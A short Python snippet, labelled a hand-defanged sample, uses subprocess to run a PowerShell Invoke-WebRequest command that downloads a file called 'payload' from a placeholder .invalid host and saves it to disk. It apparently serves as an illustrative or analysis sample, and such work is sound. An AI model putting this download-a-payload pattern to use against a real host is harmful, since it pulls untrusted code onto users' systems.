# Defanged sample: nothing here is reached or run; defanged by hand.
import subprocess
subprocess.run(['powershell', 'Invoke-WebRequest https://payload.invalid/x -OutFile a'])
